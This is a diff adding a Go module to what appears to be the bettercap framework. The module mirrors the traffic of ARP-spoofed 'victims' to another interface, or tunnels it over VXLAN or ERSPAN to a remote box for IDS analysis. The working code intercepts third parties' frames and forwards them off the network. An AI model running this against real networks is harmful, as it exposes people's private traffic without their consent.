@@ -0,0 +1,298 @@
+package net_mirror
+
+import (
+	"fmt"
+	"net"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/dustin/go-humanize"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// Stats are the frames copied to the output so far.
+type Stats struct {
+	Frames uint64 `json:"frames"`
+	Bytes  uint64 `json:"bytes"`
+	Errors uint64 `json:"errors"`
+}
+
+type NetMirror struct {
+	session.SessionModule
+	handle        *pcap.Handle
+	out           output
+	ips           map[string]bool
+	macs          map[string]bool
+	stats         Stats
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewNetMirror(s *session.Session) *NetMirror {
+	mod := &NetMirror{
+		SessionModule: session.NewSessionModule("net.mirror", s),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("net.mirror.targets",
+		"",
+		"",
+		"Comma separated list of IP addresses, MAC addresses or aliases of the victims whose traffic is mirrored, if empty arp.spoof.targets is used."))
+
+	mod.AddParam(session.NewStringParameter("net.mirror.mode",
+		ModeInterface,
+		"^(interface|vxlan|erspan)$",
+		"Use interface to write the frames as they are to the local interface in net.mirror.destination, vxlan or erspan to encapsulate them toward the remote address in net.mirror.destination."))
+
+	mod.AddParam(session.NewStringParameter("net.mirror.destination",
+		"",
+		"",
+		"Interface name in interface mode, address of the analysis box in vxlan (HOST or HOST:PORT) and erspan (HOST) modes."))
+
+	mod.AddParam(session.NewIntParameter("net.mirror.vni",
+		"0",
+		"VXLAN network identifier of the mirrored frames."))
+
+	mod.AddParam(session.NewIntParameter("net.mirror.erspan.session",
+		"1",
+		"ERSPAN session id of the mirrored frames, from 0 to 1023."))
+
+	mod.AddHandler(session.NewModuleHandler("net.mirror on", "",
+		"Start copying the frames to and from the targets to net.mirror.destination.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("net.mirror off", "",
+		"Stop mirroring the traffic of the targets.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.InitState("stats")
+
+	return mod
+}
+
+func (mod NetMirror) Name() string {
+	return "net.mirror"
+}
+
+func (mod NetMirror) Description() string {
+	return "Copies the frames to and from the spoofed victims to another interface, or encapsulated in VXLAN or ERSPAN to a remote box, so that IDS tools can process them live."
+}
+
+func (mod NetMirror) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *NetMirror) parseTargets() error {
+	err, targets := mod.StringParam("net.mirror.targets")
+	if err != nil {
+		return err
+	} else if targets == "" {
+		_, targets = mod.Session.Env.Get("arp.spoof.targets")
+	}
+
+	ips, macs, err := network.ParseTargets(targets, mod.Session.Lan.Aliases())
+	if err != nil {
+		return err
+	} else if len(ips) == 0 && len(macs) == 0 {
+		return fmt.Errorf("no targets to mirror, set net.mirror.targets")
+	}
+
+	mod.ips = make(map[string]bool)
+	mod.macs = make(map[string]bool)
+	for _, ip := range ips {
+		mod.ips[ip.String()] = true
+	}
+	for _, mac := range macs {
+		mod.macs[mac.String()] = true
+		// while spoofed, the frames from the gateway to the victim carry our
+		// own MAC address and can only be matched by the IP address
+		if e, found := mod.Session.Lan.Get(mac.String()); found {
+			if e.IP != nil {
+				mod.ips[e.IP.String()] = true
+			}
+			if e.IPv6 != nil {
+				mod.ips[e.IPv6.String()] = true
+			}
+		}
+	}
+
+	return nil
+}
+
+func (mod *NetMirror) openOutput() (filter string, err error) {
+	var mode, destination string
+	var vni, erspanSession int
+
+	if err, mode = mod.StringParam("net.mirror.mode"); err != nil {
+		return "", err
+	} else if err, destination = mod.StringParam("net.mirror.destination"); err != nil {
+		return "", err
+	} else if err, vni = mod.IntParam("net.mirror.vni"); err != nil {
+		return "", err
+	} else if err, erspanSession = mod.IntParam("net.mirror.erspan.session"); err != nil {
+		return "", err
+	} else if destination == "" {
+		return "", fmt.Errorf("net.mirror.destination is empty")
+	}
+
+	switch mode {
+	case ModeInterface:
+		if destination == mod.Session.Interface.Name() {
+			return "", fmt.Errorf("can't mirror the frames to the interface they're captured from")
+		}
+		mod.out, err = newIfaceOutput(destination)
+		return "", err
+	case ModeVXLAN:
+		if vni < 0 || vni > 0xffffff {
+			return "", fmt.Errorf("net.mirror.vni must be between 0 and %d", 0xffffff)
+		}
+		var out *vxlanOutput
+		if out, err = newVXLANOutput(destination, uint32(vni)); err == nil {
+			mod.out = out
+			filter = fmt.Sprintf("not host %s", out.conn.RemoteAddr().(*net.UDPAddr).IP)
+		}
+		return filter, err
+	default:
+		if erspanSession < 0 || erspanSession > 0x3ff {
+			return "", fmt.Errorf("net.mirror.erspan.session must be between 0 and %d", 0x3ff)
+		}
+		var out *erspanOutput
+		if out, err = newERSPANOutput(destination, uint16(erspanSession), uint32(mod.Session.Interface.Index)); err == nil {
+			mod.out = out
+			filter = fmt.Sprintf("not host %s", out.conn.RemoteAddr().(*net.IPAddr).IP)
+		}
+		return filter, err
+	}
+}
+
+func (mod *NetMirror) Configure() error {
+	var err error
+	var filter string
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted
+	} else if err = mod.parseTargets(); err != nil {
+		return err
+	} else if filter, err = mod.openOutput(); err != nil {
+		return err
+	} else if mod.handle, err = pcap.OpenLive(mod.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		mod.out.Close()
+		return err
+	} else if filter != "" {
+		// don't mirror the mirrored frames if the analysis box is a target
+		if err = mod.handle.SetBPFFilter(filter); err != nil {
+			mod.handle.Close()
+			mod.out.Close()
+			return err
+		}
+	}
+
+	// the frames we forward for the victims would be copied twice otherwise
+	if err = mod.handle.SetDirection(pcap.DirectionIn); err != nil {
+		mod.Warning("can't capture incoming frames only, forwarded frames will be mirrored twice: %v", err)
+	}
+
+	mod.stats = Stats{}
+
+	return nil
+}
+
+// isTarget returns true if the frame comes from or goes to one of the targets.
+func (mod *NetMirror) isTarget(pkt gopacket.Packet) bool {
+	if eth, ok := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet); ok {
+		if mod.macs[eth.SrcMAC.String()] || mod.macs[eth.DstMAC.String()] {
+			return true
+		}
+	}
+
+	if ip4, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+		return mod.ips[ip4.SrcIP.String()] || mod.ips[ip4.DstIP.String()]
+	} else if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok {
+		return mod.ips[ip6.SrcIP.String()] || mod.ips[ip6.DstIP.String()]
+	} else if arp, ok := pkt.Layer(layers.LayerTypeARP).(*layers.ARP); ok {
+		return mod.ips[net.IP(arp.SourceProtAddress).String()] || mod.ips[net.IP(arp.DstProtAddress).String()]
+	}
+
+	return false
+}
+
+func (mod *NetMirror) onPacket(pkt gopacket.Packet) {
+	if !mod.isTarget(pkt) {
+		return
+	}
+
+	data := pkt.Data()
+	if err := mod.out.Write(data); err != nil {
+		if atomic.AddUint64(&mod.stats.Errors, 1) == 1 {
+			mod.Warning("error mirroring to %s: %v", mod.out, err)
+		}
+		return
+	}
+
+	atomic.AddUint64(&mod.stats.Frames, 1)
+	atomic.AddUint64(&mod.stats.Bytes, uint64(len(data)))
+}
+
+func (mod *NetMirror) snapshot() Stats {
+	return Stats{
+		Frames: atomic.LoadUint64(&mod.stats.Frames),
+		Bytes:  atomic.LoadUint64(&mod.stats.Bytes),
+		Errors: atomic.LoadUint64(&mod.stats.Errors),
+	}
+}
+
+func (mod *NetMirror) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		mod.Info("mirroring %d addresses and %d MACs to %s", len(mod.ips), len(mod.macs), tui.Bold(mod.out.String()))
+
+		go func() {
+			for mod.Running() {
+				mod.State.Store("stats", mod.snapshot())
+				time.Sleep(time.Second)
+			}
+		}()
+
+		src := gopacket.NewPacketSource(mod.handle, mod.handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+func (mod *NetMirror) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.handle.Close()
+		mod.waitGroup.Wait()
+		mod.out.Close()
+
+		stats := mod.snapshot()
+		mod.Info("mirrored %d frames (%s) to %s, %d errors", stats.Frames, humanize.Bytes(stats.Bytes), mod.out, stats.Errors)
+		mod.ResetState()
+	})
+}